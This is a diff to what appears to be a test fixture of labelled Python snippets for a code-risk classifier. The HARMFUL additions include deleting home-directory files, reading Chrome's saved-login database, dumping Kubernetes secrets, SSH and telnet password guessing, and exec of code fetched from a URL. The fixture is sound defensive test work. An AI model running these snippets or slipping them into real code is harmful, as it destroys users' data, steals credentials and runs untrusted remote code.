@@ -243,6 +243,53 @@ HARMFUL = [
         "# CREATE TABLE users\nimport sqlite3\nsqlite3.connect('p').execute('DROP TABLE users')",
         "sql.drop.table",
     ),
+    (
+        "from pathlib import Path\nfor p in Path.home().rglob('*.pdf'):\n    p.unlink()",
+        "python.delete.found",
+    ),
+    (
+        "import os\nfor r, d, fs in os.walk('/home/a/Documents'):\n    for f in fs:\n        open(os.path.join(r, f), 'wb').write(b'')",  # noqa: E501
+        "python.delete.found",
+    ),
+    (
+        "import sqlite3, os\nsqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))",  # noqa: E501
+        "python.read.browser",
+    ),
+    ("import requests\nwhile True:\n    requests.get('http://x.example')", "python.exhaust.loop"),
+    (
+        "import boto3\nb = boto3.resource('s3').Bucket('x')\nb.objects.all().delete()",
+        "python.data.destroyed",
+    ),
+    (
+        "from kubernetes import client\nclient.CoreV1Api().list_secret_for_all_namespaces()",
+        "python.credentials.store",
+    ),
+    (
+        "import boto3\nboto3.client('ec2').authorize_security_group_ingress(GroupId='x')",
+        "python.cloud.access",
+    ),
+    (
+        "import paramiko\nfor w in open('words'):\n    c = paramiko.SSHClient()\n    c.connect('h', username='root', password=w.strip())",  # noqa: E501
+        "python.credentials.guessed",
+    ),
+    ("import torch\ntorch.save(m, '/etc/x')", "python.write.system"),
+    ("from pathlib import Path\n[p.unlink() for p in Path.home().iterdir()]", "python.delete.found"),
+    (
+        "import os\nh = os.path.expanduser('~')\nfor f in os.listdir(h):\n    os.remove(os.path.join(h, f))",  # noqa: E501
+        "python.delete.found",
+    ),
+    (
+        "import yagmail\nyagmail.SMTP('a').send('x@y.example', 's', attachments=['/home/u/x.xlsx'])",
+        "python.network.mail_sent",
+    ),
+    (
+        "import urllib.request as u\nexec(u.build_opener().open('http://x.example').read())",
+        "python.run.remote",
+    ),
+    (
+        "import telnetlib\nt = telnetlib.Telnet('h')\nfor w in open('words'):\n    t.write(w.encode())",
+        "python.credentials.guessed",
+    ),
 ]
 
 MODERATE = [
@@ -268,12 +315,24 @@ MODERATE = [
     ),
     (
         "import requests, os\nrequests.post('http://localhost:8000', json=dict(os.environ))",
-        "python.network.send",
+        "python.network.local",
     ),
     (
         "import requests, os\nrequests.get(os.environ['API_URL'], headers={'x': os.getenv('TOKEN')})",
         "python.network.fetch",
     ),
+    ("import pandas as pd\npd.read_csv('a.csv').to_csv('b.csv')", "python.write.workspace"),
+    ("import numpy as np\nnp.save('x.npy', a)", "python.write.workspace"),
+    ("import webbrowser\nwebbrowser.open('https://x.example')", "python.network.browse"),
+    (
+        "import requests, time\nwhile True:\n    requests.get('http://x.example')\n    time.sleep(1)",
+        "python.network.fetch",
+    ),
+    (
+        "import os\nfor r, d, fs in os.walk('.'):\n    for f in fs:\n        os.remove(os.path.join(r, f))",
+        "python.delete.unknown",
+    ),
+    ("import requests\nrequests.post('http://127.0.0.1:8000/x', json={})", "python.network.local"),
 ]
 
 HARMLESS = [
